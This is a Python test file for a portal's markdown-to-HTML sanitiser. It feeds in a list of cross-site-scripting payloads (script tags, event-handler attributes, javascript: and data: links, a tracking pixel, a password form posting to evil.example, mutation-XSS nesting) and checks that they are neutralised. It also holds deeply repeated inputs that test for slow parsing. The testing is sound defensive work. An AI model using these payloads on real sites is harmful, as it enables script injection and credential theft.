"""What people write becomes HTML of a few harmless elements, or plain words."""

import re

import pytest

from portal.web import markdown

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onclick=alert(1))',
    "<javascript:alert(1)>",
    "![x](https://spy.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://spy.example/a.png)](https://a.example)",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "| a |\n|:-:|\n| <iframe src=https://evil.example> |",
    "```html onload=x\n<script>alert(1)</script>\n```",
    "[a]: javascript:alert(1)\n\n[a]",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
)
ALLOWED = re.compile(
    r"<(/?(p|hr|br|h[2-6]|strong|em|s|code|pre|blockquote|ul|ol|li|a|table|thead|tbody|tr|th|td)"
    r'( (href|title|rel|start)="[^"<>]*")*) ?/?>'
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    html = markdown.to_html(text)
    assert "<" not in ALLOWED.sub("", html)
    assert not re.search(r'href="(?!https?:|mailto:|/|#)', html)
    assert "<img" not in html


def test_what_articles_need_is_drawn() -> None:
    text = "# First\n\nSome **strong** ~~gone~~ `code`.\n\n1. one\n2. two\n\n| A | B |\n|---|--:|\n| 1 | 2 |\n"
    html = markdown.to_html(text + "\n[a guide](https://a.example/guide?x=1&y=2) and [an article](/knowledge/KA-1/)")
    for part in ("<h2>First</h2>", "<strong>strong</strong>", "<s>gone</s>", "<code>code</code>", "<li>two</li>"):
        assert part in html
    assert "<td>2</td>" in html
    assert '<a href="https://a.example/guide?x=1&amp;y=2" rel="noopener noreferrer">a guide</a>' in html
    assert 'href="/knowledge/KA-1/"' in html


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert markdown.to_html("a <b>bold</b> word") == "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>\n"


def test_words_without_markup() -> None:
    text = "# Head\n\nSome **bold**\n[link](https://a.example) `x`\n\n- one\n- two\n\n```\ncode  here\n```\n"
    assert markdown.to_text(text) == "Head\nSome bold link x\none\ntwo\ncode here"


@pytest.mark.parametrize("text", ["[" * 20_000, "*a " * 10_000, "> " * 5_000 + "x", "`" * 20_000, "|" * 20_000])
def test_no_text_takes_long(text: str) -> None:
    # A text that took the parser quadratic time would not end within the suite's patience.
    assert markdown.to_html(text)
